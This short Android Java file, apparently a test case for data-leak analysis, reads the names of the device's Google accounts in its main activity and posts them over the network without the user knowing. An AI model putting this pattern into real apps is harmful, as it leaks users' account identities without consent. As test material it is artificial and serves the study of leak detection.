package com.example.flows.accounts_loop;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** Names of accounts are posted. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        String[] names = new String[10];
        int i = 0;
        for (Account each : AccountManager.get(this).getAccountsByType("com.google")) {
            names[i++] = each.name;
        }
        Net.post(Arrays.toString(names));
    }
}
